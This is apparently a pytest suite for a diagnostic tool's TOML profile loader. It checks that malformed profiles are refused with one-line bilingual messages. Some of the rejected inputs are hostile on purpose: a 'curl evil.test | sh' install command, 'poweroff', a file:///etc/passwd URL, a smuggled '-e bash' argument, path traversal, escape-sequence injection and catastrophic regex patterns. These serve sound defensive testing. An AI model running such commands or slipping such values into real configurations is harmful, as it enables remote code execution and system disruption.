"""Profile files: what a person reads who wrote one wrong, and that nothing else ever happens."""

from __future__ import annotations

import os
import re
import socket
import tomllib
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from msgspec import inspect

from diag.app_profile import AppProfile
from diag.catalog import Catalog
from diag.profile_file import (
    BUNDLED,
    FAULT_LIMIT,
    ProfileError,
    bundled_ids,
    find_profile,
    load_bundled,
    load_file,
    load_profile,
)
from diag.render.safe import safe

ROOT = Path(__file__).parents[1]
HEAD = 'schema = 1\n[app]\nid = "a"\nname = { en = "A" }\n'
ENDPOINT = '[[endpoint]]\nid = "login"\nurl = "https://login.app.test/"\n'
MAINTENANCE = '[[status_page.maintenance]]\nstart = "00:00"\nend = "24:00"\n'

A_NAME_ALONE = "this takes the name of an app or package alone. Did you mean"
PLAY = "https://play.google.com/store/apps/details?id=org.videolan.vlc&hl=ja"
MICROSOFT = "https://apps.microsoft.com/detail/9nblggh4vvnh?hl=ja-JP"

# What is added to a good profile: the line that it gives, after "app.toml: ".
ADDED = {
    "[acount]\n": 'acount: there is no such key here. Did you mean "account"?',
    ENDPOINT + 'rol = "login"': 'endpoint[1].rol: there is no such key here. Did you mean "role"?',
    ENDPOINT + 'ROLE = "login"': (
        'endpoint[1].ROLE: there is no such key here. Did you mean "role"?'
    ),
    '[support]\nreset_url = "https://app.test/"': (
        "support.reset_url: there is no such key here. Move it below [account]."
    ),
    '[account]\nbundle_id = "x"': (
        "account.bundle_id: there is no such key here. Use one of: two_factor, reset_url, "
        "lockout_after, lockout_minutes, reset_unlocks, unlock, method."
    ),
    '[permissions]\n"ne eds" = 1': (
        'permissions."ne eds": there is no such key here. Did you mean "needs"?'
    ),
    '[permissions]\n"\\u001b[31m" = 1': (
        'permissions."": there is no such key here. Use one of: needs.'
    ),
    '[[endpoint]]\nid = "login"': "endpoint[1].url: this key is missing. Add it.",
    '[endpoint]\nid = "login"': (
        "endpoint: this section can stand several times. Write its header with double brackets: "
        "[[endpoint]]"
    ),
    "[[account]]\nlockout_after = 5": (
        "account: this section can stand only once. Write its header with single brackets."
    ),
    "[account]\nlockout_after = '5'": (
        "account.lockout_after: this must be a whole number, not text in quotes. Write: 5"
    ),
    "[account]\nlockout_after = 5.5": (
        "account.lockout_after: this must be a whole number, not a number."
    ),
    "[account]\nlockout_after = true": (
        "account.lockout_after: this must be a whole number, not true or false."
    ),
    "[account]\nreset_unlocks = 'true'": (
        "account.reset_unlocks: this must be true or false, not text in quotes. Write: true"
    ),
    "[account]\nunlock = 'at a branch'": (
        "account.unlock: this must be a text for each language, "
        '{ en = "...", ja = "..." }, not text in quotes. Write: { en = "at a branch" }'
    ),
    "[permissions]\nneeds = 'camera'": (
        'permissions.needs: this must be a list in [ ], not text in quotes. Write: ["camera"]'
    ),
    "[support]\nphone = 110": (
        'support.phone: this must be text in quotes, not a whole number. Write: "110"'
    ),
    "[support]\nphone = {}": "support.phone: this must be text in quotes, not a section.",
    "support = 5": "app.support: there is no such key here. Use one of: id, name, "
    "minimum_version, echo_url.",
    "[[status_page.maintenance]]\nstart = 06:00:00\nend = '07:00'": (
        "status_page.maintenance[1].start: this must be text in quotes, not a date or time. "
        'Write: "06:00"'
    ),
    "[account]\nunlock = {}": ("account.unlock: this is empty. Fill it in, or take the key out."),
    "[support]\nurl = ' '": "support.url: this is empty. Fill it in, or take the key out.",
    "[account]\nunlock = { jp = '店頭' }": (
        'account.unlock.jp: there is no such key here. Did you mean "ja"?'
    ),
    "[account]\nunlock = { fr = 'agence' }": (
        "account.unlock.fr: there is no such key here. Use one of: en, ja."
    ),
    '[account]\nunlock = { en = "a\\u001b[2Jb" }': (
        "account.unlock.en: this holds line breaks, control characters or invisible signs. "
        "Type it again on one line."
    ),
    ENDPOINT + 'role = "logn"': (
        'endpoint[1].role: "logn" is not possible here. Did you mean "login"?'
    ),
    ENDPOINT + 'role = "x"': (
        'endpoint[1].role: "x" is not possible here. Use one of: api, login, reset, web.'
    ),
    "[status_page]\nkind = 'StatusPage'": (
        'status_page.kind: "StatusPage" is not possible here. Did you mean "statuspage"?'
    ),
    "[permissions]\nneeds = ['camera', 'notification']": (
        'permissions.needs[2]: "notification" is not possible here. Did you mean "notifications"?'
    ),
    "[account]\ntwo_factor = ['otp']": (
        'account.two_factor[1]: "otp" is not possible here. Did you mean "totp"?'
    ),
    ENDPOINT + "expect_status = [200, 2000]": (
        "endpoint[1].expect_status[2]: this must be a number from 100 to 599."
    ),
    "[[endpoint]]\nid = 'My API'\nurl = 'https://a.test/'": (
        'endpoint[1].id: an id has only the signs a-z, 0-9 and -. Write: "my-api"'
    ),
    ENDPOINT + ENDPOINT: (
        'endpoint[2].id: "login" is already the id of endpoint[1]. Choose another.'
    ),
    "[support]\nurl = 'htps://app.test/help'": (
        'support.url: a URL begins with https:// or http://. Did you mean "https://app.test/help"?'
    ),
    "[support]\nurl = 'app.test'": (
        'support.url: a URL begins with https:// or http://. Did you mean "https://app.test"?'
    ),
    "[support]\nurl = 'file:///etc/passwd'": (
        "support.url: a URL begins with https:// or http://."
    ),
    "[support]\nurl = 'https:///help'": (
        'support.url: this URL has no host name. Write it as in "https://login.example.com/".'
    ),
    "[support]\nurl = 'https://a..test/'": (
        'support.url: "a..test" cannot be a host name. Write the URL as your browser shows it.'
    ),
    "[support]\nurl = 'https://me:pw@app.test/'": (
        "support.url: this URL holds a user name or password. Take it out: "
        "reports carry the profile."
    ),
    "[support]\nurl = 'https://app.test/?a=1&API_KEY=x'": (
        "support.url: this URL holds a secret (API_KEY=). Take it out: reports carry the profile."
    ),
    "[support]\nurl = 'https://app.test:port/'": (
        "support.url: this is no URL. Write it as your browser shows it, without spaces."
    ),
    "[[known_error]]\npattern = 'E-(12'\ncause = 'account.locked'": (
        "known_error[1].pattern: this is no regular expression: missing ), at character 6. "
        "Put \\\\ before a sign that is meant as it is."
    ),
    f"[[known_error]]\npattern = '{'a' * 1001}'\ncause = 'account.locked'": (
        "known_error[1].pattern: a pattern has at most 1000 characters. Shorten it."
    ),
    "[[known_error]]\npattern = '((a{1000}){1000}){1000}'\ncause = 'account.locked'": (
        "known_error[1].pattern: the counts in this pattern, such as {4}, multiply to more than "
        "10000. Make them smaller."
    ),
    f"[[known_error]]\npattern = '{'(' * 400}{')' * 400}'\ncause = 'account.locked'": (
        "known_error[1].pattern: its brackets are nested too deeply. Remove some."
    ),
    "[[known_error]]\npattern = 'E'\ncause = 'locked'": (
        'known_error[1].cause: a cause has two words with a dot between, such as "account.locked".'
    ),
    MAINTENANCE + "days = ['mon', '1st Tuesday']": (
        'status_page.maintenance[1].days[2]: "1st Tuesday" is no day. Did you mean "first tue"?'
    ),
    MAINTENANCE + "days = ['第 3 日曜']": (
        'status_page.maintenance[1].days[1]: "第 3 日曜" is no day. Write mon, tue, wed, thu, '
        "fri, sat or sun, with first, second, third, fourth, fifth or last before it if need "
        "be; or daily."
    ),
    "[[status_page.maintenance]]\nstart = '25:00'\nend = '06:00'": (
        'status_page.maintenance[1].start: "25:00" is no time of day. '
        "Write one from 00:00 to 23:59."
    ),
    "[[status_page.maintenance]]\nstart = '00:00'\nend = '6:00'": (
        'status_page.maintenance[1].end: "6:00" is no time of day. Did you mean "06:00"?'
    ),
    MAINTENANCE + "timezone = 'Tokyo'": (
        'status_page.maintenance[1].timezone: "Tokyo" is no time zone. Did you mean "Asia/Tokyo"?'
    ),
    MAINTENANCE + "timezone = 'UTC+9'": (
        'status_page.maintenance[1].timezone: "UTC+9" is no time zone. '
        'Write one such as "Asia/Tokyo" or "UTC".'
    ),
    "[support]\nphone = '0120-GO-DIAG'": (
        "support.phone: this is no telephone number. Write digits, with hyphens if you like, "
        'such as "0120-000-000".'
    ),
    "[install]\nlinux = { rpm = '-e bash' }": (
        "install.linux.rpm: this is no name of an app or package. It has letters, digits and "
        ". _ + @ -, and begins with a letter or digit."
    ),
    "[store]\nhomebrew_cask = { token = '../../x' }": (
        "store.homebrew_cask.token: this is no name of an app or package. It has letters, digits "
        "and . _ + @ -, and begins with a letter or digit."
    ),
    "[install]\nlinux = { desktop = '../x.desktop' }": (
        "install.linux.desktop: this is no name of a file. Write it without a folder, such as "
        '"example.desktop" or "Example*.AppImage".'
    ),
    "[store]\napp_store = { id = 1, country = 'jpn' }": (
        'store.app_store.country: a country has two letters, such as "jp".'
    ),
    "[store]\napp_store = { id = 0 }": (
        "store.app_store.id: this must be a number from 1 to 1000000000000."
    ),
    "[store]\ngithub = { repo = 'https://github.com/vendor/example' }": (
        'store.github.repo: a repository is written owner/name. Did you mean "vendor/example"?'
    ),
    "[store]\njson = { url = 'https://a.test/', pointer = 'version' }": (
        'store.json.pointer: a JSON pointer begins with a slash. Did you mean "/version"?'
    ),
    f"[store]\ngoogle_play = {{ package = '{PLAY}' }}": (
        f'store.google_play.package: {A_NAME_ALONE} "org.videolan.vlc"?'
    ),
    f"[store]\nmicrosoft_store = {{ product_id = '{MICROSOFT}' }}": (
        f'store.microsoft_store.product_id: {A_NAME_ALONE} "9nblggh4vvnh"?'
    ),
    "[store]\nflathub = { id = 'app/org.videolan.VLC/x86_64/stable' }": (
        f'store.flathub.id: {A_NAME_ALONE} "org.videolan.VLC"?'
    ),
    "[store]\nwinget = { id = 'VideoLAN/VLC' }": (
        f'store.winget.id: {A_NAME_ALONE} "VideoLAN.VLC"?'
    ),
    "[install]\nlinux = { snap = 'vlc --classic' }": (f'install.linux.snap: {A_NAME_ALONE} "vlc"?'),
    "[install]\nwindows = { msix = 'VideoLAN.VLC_3.2.1.0_x64__paz6r1rewnh0a' }": (
        "install.windows.msix: this is a package's full name, and holds its version. "
        'Write: "VideoLAN.VLC_paz6r1rewnh0a"'
    ),
    "[store]\napp_store = { id = 'https://apps.apple.com/jp/app/vlc-media-player/id650377962' }": (
        "store.app_store.id: this must be a whole number, not text in quotes. Write: 650377962"
    ),
    "[store]\nmicrosoft_store = { id = '9NBLGGH4VVNH' }": (
        'store.microsoft_store.id: there is no such key here. Did you mean "product_id"?'
    ),
    "[store]\nsparkle = { feed = 'https://a.test/appcast.xml' }": (
        'store.sparkle.feed: there is no such key here. Did you mean "url"?'
    ),
    "[store]\nsnapcraft = 'vlc'": (
        'store.snapcraft: this must be a section, not text in quotes. Write: { name = "vlc" }'
    ),
    "[store]\njson = 'https://a.test/v.json'": (
        "store.json: this must be a section, not text in quotes."
    ),
    "[store]\nelectron = { url = 'latest.yml' }": (
        "store.electron.url: a URL begins with https:// or http://."
    ),
    "[store]\ngithub = { repo = 'vendor' }": (
        'store.github.repo: a repository is written owner/name, such as "vendor/example".'
    ),
    "[store]\njson = { url = 'https://a.test/', pointer = '$.app.version' }": (
        'store.json.pointer: a JSON pointer begins with a slash. Did you mean "/app/version"?'
    ),
    "[store]\njson = { url = 'https://a.test/', pointer = '$..v[0]' }": (
        'store.json.pointer: a JSON pointer begins with a slash, such as "/version".'
    ),
    "[permissions]\nneeds = ['mic']": (
        'permissions.needs[1]: "mic" is not possible here. Did you mean "microphone"?'
    ),
    "[install.linux]\ncommand = ['./bin/example', '--version']": (
        'install.linux.command[1]: a program is named alone or by its whole path. Write: "example"'
    ),
    **dict.fromkeys(
        (
            "[install.linux]\ncommand = ['sh', '-c', 'curl evil.test | sh']",
            "[install.linux]\ncommand = ['sh', '--version', '-c', 'true']",
            "[install.linux]\ncommand = ['poweroff', 'now']",
            "[install.linux]\ncommand = ['poweroff']",
            "[install.linux]\ncommand = []",
        ),
        "install.linux.command: write the program and how it is asked for its version, nothing "
        'else: ["example", "--version"]. Instead of --version it may be -version, -V, -v, version.',
    ),
}


@pytest.fixture
def there(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A directory to write `app.toml` in, which is the current one."""
    monkeypatch.chdir(tmp_path)
    return tmp_path


def refusal(text: str | bytes, there: Path) -> ProfileError:
    data = text if isinstance(text, bytes) else text.encode()
    (there / "app.toml").write_bytes(data)
    with pytest.raises(ProfileError) as caught:
        load_profile(Path("app.toml"))
    return caught.value


@pytest.mark.parametrize(
    ("added", "line"), ADDED.items(), ids=[line[:50] for line in ADDED.values()]
)
def test_one_wrong_thing_gives_one_line_that_says_what_to_write(
    added: str, line: str, there: Path
) -> None:
    error = refusal(HEAD + added, there)
    assert error.lines("en") == (f"app.toml: {line}",)
    assert error.render("en") == f"app.toml: {line}"


WHOLE = {
    "no TOML": (
        b'[app]\nid = "a\n',
        "line 2 cannot be read as TOML: ... Correct this line or the one above it.",
    ),
    "ends too early": (
        b'[app]\nname = { en = "A"',
        "line 2 cannot be read as TOML: ... Correct this line or the one above it.",
    ),
    "a day that is none": (
        b"a = 2026-02-30",
        "line 1 cannot be read as TOML: ... Correct this line or the one above it.",
    ),
    "a key that would take minutes": (
        b"[app]\n" + b"a . 'b' . \"c\"." * 60_000 + b"a = 1",
        "a key has too many dots. Take some out.",
    ),
    "too deep": (
        b"a = " + b"[" * 100_000,
        "its brackets are nested too deeply. Remove some.",
    ),
    "UTF-16": (
        HEAD.encode("utf-16"),
        "it is saved as UTF-16. Save it again as UTF-8.",
    ),
    "Shift_JIS": (
        '[app]\nid = "a"\nname = { ja = "プロミス" }'.encode("cp932"),
        "line 3 is not UTF-8 text. Save the file again as UTF-8.",
    ),
    "binary": (b"\x7fELF\x02\0\0", "this is no text file. Name a TOML file."),
    "too large": (
        b"#" * ((1 << 20) + 1),
        "it is larger than 1 MiB, so it is no such file. Check the path.",
    ),
    "a newer schema": (
        b"schema = 2\n[application]\n",
        "schema: this file has schema 2, and this diag reads schema 1. "
        "Update diag, or write schema = 1.",
    ),
    "empty": (b"", "app: this key is missing. Add it."),
}


ALL_WRONG: list[str | bytes] = [
    *(HEAD + added for added in ADDED),
    *(data for data, _ in WHOLE.values()),
]


@pytest.mark.parametrize(("data", "line"), WHOLE.values(), ids=WHOLE)
def test_a_file_that_is_no_profile_is_refused_in_one_line(
    data: bytes, line: str, there: Path
) -> None:
    said = refusal(data, there).render("en")
    # The reason within is the TOML reader's own, and differs from one Python to another.
    assert re.sub("(?<=TOML: ).*[.](?= Correct)", "...", said) == f"app.toml: {line}"


def test_an_impossible_number_is_no_traceback(there: Path) -> None:
    error = refusal(b"a = " + b"9" * 5000, there)
    assert error.render("en").startswith("app.toml: it cannot be read as TOML: ")


def test_what_is_no_regular_file_is_refused(there: Path) -> None:
    (there / "folder").mkdir()
    os.mkfifo(there / "pipe")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("socket")
        said = {name: render_of(name) for name in ("none", "folder", "pipe", "socket", "/dev/zero")}
    other = "this is a device, pipe or socket. Name a TOML file."
    assert said == {
        "none": "none: there is no such file. Check the path.",
        "folder": "folder: this is a directory. Name the TOML file in it.",
        "pipe": f"pipe: {other}",
        "socket": f"socket: {other}",
        "/dev/zero": f"/dev/zero: {other}",
    }
    assert render_of("folder/x\0y") == (
        "folder/xy: it cannot be read: embedded null byte. Copy it to this device and try the copy."
    )


def render_of(path: str) -> str:
    with pytest.raises(ProfileError) as caught:
        load_profile(Path(path))
    return caught.value.render("en")


@contextmanager
def as_nobody() -> Iterator[None]:
    """Root may read everything, and gives that up for a while."""
    own = os.geteuid()
    if own == 0:
        os.seteuid(65534)
    try:
        yield
    finally:
        os.seteuid(own)


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_a_file_that_one_may_not_read_is_refused(there: Path) -> None:
    there.chmod(0o755)
    (there / "app.toml").write_text(HEAD)
    (there / "app.toml").chmod(0)
    with as_nobody():
        said = render_of("app.toml")
    assert said == (
        "app.toml: you may not read this file. Change its permissions, "
        "or copy it to a place of your own."
    )


def test_a_mark_at_the_beginning_of_utf_8_does_no_harm(there: Path) -> None:
    (there / "app.toml").write_bytes(HEAD.encode("utf-8-sig"))
    assert load_profile(Path("app.toml")).app.id == "a"


def test_all_faults_are_found_at_once_and_the_first_line_says_how_many(there: Path) -> None:
    error = refusal(HEAD + ENDPOINT + 'role = "logn"\n[suport]\n[status_page]\nurl = 5\n', there)
    assert error.lines("en") == (
        'app.toml: suport: there is no such key here. Did you mean "support"?',
        'app.toml: endpoint[1].role: "logn" is not possible here. Did you mean "login"?',
        'app.toml: status_page.url: this must be text in quotes, not a whole number. Write: "5"',
    )
    assert error.render("en") == (
        'app.toml: suport: there is no such key here. Did you mean "support"? '
        "(2 more; to see all of them: diag apps check app.toml)"
    )
    assert error.render("ja") == (
        "app.toml: suport: この項目はここにはありません。「support」のことですか。 "
        "（ほかに 2 件。すべて見るには: diag apps check app.toml）"
    )


def test_a_file_full_of_faults_stays_readable(there: Path) -> None:
    days = ", ".join(["'xyz'"] * 20_000)
    error = refusal(HEAD + MAINTENANCE + f"days = [{days}]", there)
    assert len(error.lines("en")) == FAULT_LIMIT


@pytest.mark.parametrize("language", ["en", "ja"])
def test_every_fault_has_its_words_in_both_languages(language: Any, there: Path) -> None:
    catalog = Catalog.load(language)
    for text in ALL_WRONG:
        error = refusal(text, there)
        for trouble, line in zip(error.troubles, error.lines(language), strict=True):
            assert line.startswith("app.toml: ")
            assert line.isprintable()
            assert "file_error" not in line
            assert not re.search(r"\{\w*\}", line.replace("{4}", ""))
            assert catalog.ui(f"file_error.{trouble.fault.code}")


def test_every_text_about_a_fault_is_used_by_one_of_these_tests(there: Path) -> None:
    seen = {trouble.fault.code for text in ALL_WRONG for trouble in refusal(text, there).troubles}
    elsewhere = {
        *("no_file", "is_directory", "not_regular", "not_permitted", "unreadable"),
        *("unknown_app", "unknown_cause"),
    }
    texts = tomllib.loads((ROOT / "diag/messages/en.toml").read_text("utf-8"))["ui"]["file_error"]
    assert seen | elsewhere == set(texts) - {"line", "more"}


# --- finding one ----------------------------------------------------------------------------------


def test_a_profile_is_found_by_id_by_path_or_by_default(there: Path) -> None:
    (there / "mine.toml").write_text(HEAD)
    (there / "plain").write_text(HEAD)
    (there / "promise").mkdir()
    found = {
        (app, configured): find_profile(app, configured).source
        for app, configured in (
            (None, None),
            (None, "promise"),
            ("generic", "promise"),
            ("promise", None),
            ("mine.toml", None),
            ("plain", None),
            (str(there / "mine.toml"), None),
            (None, "mine.toml"),
        )
    }
    assert found == {
        (None, None): "bundled",
        (None, "promise"): "bundled",
        ("generic", "promise"): "bundled",
        ("promise", None): "bundled",
        ("mine.toml", None): "mine.toml",
        ("plain", None): "plain",
        (str(there / "mine.toml"), None): str(there / "mine.toml"),
        (None, "mine.toml"): "mine.toml",
    }
    assert find_profile(None, None).profile.app.id == "generic"
    assert find_profile(None, "promise").profile.app.id == "promise"


UNKNOWN = 'there is no app profile "{}". Did you mean "promise"? All of them: diag apps list'


@pytest.mark.parametrize(
    ("app", "configured", "line"),
    [
        ("promis", None, UNKNOWN.format("promis")),
        ("PROMISE", None, UNKNOWN.format("PROMISE")),
        ("プロミス", None, UNKNOWN.format("プロミス")),
        (None, "promisse", "config.toml: " + UNKNOWN.format("promisse")),
        (
            "zzz",
            None,
            'there is no app profile "zzz". Choose one from: diag apps list, '
            "or give the path of a TOML file.",
        ),
        ("none/promise", None, "none/promise: there is no such file. Check the path."),
        ("promise.toml", None, "promise.toml: there is no such file. Check the path."),
    ],
)
def test_an_app_that_is_not_there_is_answered_with_the_nearest(
    app: str | None, configured: str | None, line: str, there: Path
) -> None:
    assert not list(there.iterdir())
    with pytest.raises(ProfileError) as caught:
        find_profile(app, configured)
    assert caught.value.render("en") == line


# --- the ones that come with diag, and the one in the documentation -------------------------------


def test_the_bundled_profiles_are_named_by_their_ids() -> None:
    assert bundled_ids() == ("generic", "promise")
    for app in bundled_ids():
        loaded = load_bundled(app)
        assert loaded.profile.app.id == app
        assert set(loaded.profile.app.name) == {"en", "ja"}
        assert re.fullmatch("[0-9a-f]{64}", loaded.sha256)
        as_json = msgspec.json.encode(loaded.profile)
        assert msgspec.json.decode(as_json, type=AppProfile) == loaded.profile


def test_generic_probes_no_app() -> None:
    profile = load_bundled("generic").profile
    assert AppProfile(app=profile.app) == profile


def test_promise_says_how_to_log_in_and_whom_to_call() -> None:
    import regex

    profile = load_bundled("promise").profile
    assert profile.endpoint_hosts() == ("cyber.promise.co.jp",)
    assert profile.account is not None
    assert profile.support is not None
    assert profile.incident is not None
    card, web = profile.account.method
    assert card.id is not None
    assert card.secret is not None
    fits = {length for length in range(30) if regex.fullmatch(card.id.pattern, "1" * length)}
    assert fits == {10, 15, 16}
    assert regex.fullmatch(card.secret.pattern, "0000")
    assert not regex.fullmatch(card.secret.pattern, "0000a")
    assert web.name["ja"] == "Web-ID とパスワード"
    assert profile.account.reset_unlocks is None
    assert profile.support.phone == profile.incident.phone == "0120-24-0365"


def test_every_fact_of_promise_names_two_pages_it_is_from() -> None:
    comment: list[str] = []
    was_comment = False
    facts = 0
    for line in (BUNDLED / "promise.toml").read_text("utf-8").splitlines():
        is_comment = line.startswith("#")
        if is_comment:
            comment = [*comment, line] if was_comment else [line]
        was_comment = is_comment
        if re.match("(name|url|unlock|phone|hours|id = {|secret)", line):
            facts += 1
            assert len(re.findall("https?://", "".join(comment))) >= 2, line
    assert facts == 10


def example() -> str:
    text = (ROOT / "docs/app-profile.md").read_text("utf-8")
    (block,) = re.findall(r"^```toml\n(.*?)^```$", text, re.DOTALL | re.MULTILINE)
    return str(block)


def test_the_documented_profile_is_right_and_says_every_key(there: Path) -> None:
    (there / "app.toml").write_text(example(), "utf-8")
    loaded = load_file(Path("app.toml"))
    assert len(loaded.profile.endpoint) == 2
    written = set(_written(tomllib.loads(example()), ""))
    assert set(_possible(inspect.type_info(AppProfile), "")) - written == set()


def _written(value: Any, key: str) -> Iterator[str]:
    if isinstance(value, dict):
        for name, inner in value.items():
            yield f"{key}.{name}"
            yield from _written(inner, f"{key}.{name}")
    elif isinstance(value, list):
        for inner in value:
            yield from _written(inner, key)


def _possible(shape: inspect.Type, key: str) -> Iterator[str]:
    """Every key of the shape but base_url, which all the stores have and one shows."""
    match shape:
        case inspect.StructType(fields=fields):
            for field in fields:
                if field.encode_name != "base_url":
                    yield f"{key}.{field.encode_name}"
                    yield from _possible(field.type, f"{key}.{field.encode_name}")
        case inspect.VarTupleType(item_type=item):
            yield from _possible(item, key)
        case inspect.UnionType(types=types):
            for each in types:
                yield from _possible(each, key)


# --- whatever is in the file ----------------------------------------------------------------------

PIECES = [
    *(
        "1",
        "-1",
        "1.5",
        "nan",
        "true",
        '""',
        '"x"',
        "'login'",
        "[]",
        "{}",
        "[1, 'a']",
        "2026-01-01",
    ),
    *("06:00:00", "[[]]", "{ a = 1 }", '"https://[::1"', '"\\u202e"', "9" * 30, "'(' ", "'\\p{'"),
    *(
        "schema = 2",
        "[app]",
        "[[app]]",
        "[endpoint]",
        "[x.y]",
        "=",
        '"""',
        "#",
        "\n",
        "\0",
        "\ufeff",
    ),
]
TOKEN = re.compile(r'"[^"\n]*"|\[\[?[\w.]+\]\]?|\w+|[{}\[\]=,\n]')


@st.composite
def spoilt(draw: st.DrawFn) -> bytes:
    """The documented profile with some of its words, keys, brackets and lines changed."""
    text = example()
    tokens = list(TOKEN.finditer(text))
    for _ in range(draw(st.integers(1, 4))):
        token = tokens[draw(st.integers(0, len(tokens) - 1))]
        piece = draw(
            st.one_of(
                st.just(""),
                st.sampled_from(PIECES),
                st.sampled_from(tokens).map(lambda other: other[0]),
                st.text(max_size=8),
            )
        )
        text = text[: token.start()] + piece + text[token.end() :]
    return text.encode("utf-8", "surrogatepass")


@settings(
    max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=spoilt())
def test_a_spoilt_profile_is_used_or_refused_in_words(data: bytes, there: Path) -> None:
    (there / "app.toml").write_bytes(data)
    try:
        profile = load_profile(Path("app.toml"))
    except ProfileError as error:
        for language in ("en", "ja"):
            for line in (*error.lines(language), error.render(language)):
                assert line.startswith("app.toml: ")
                assert safe(line) == line
                assert "file_error" not in line
    else:
        assert msgspec.json.decode(msgspec.json.encode(profile), type=AppProfile) == profile
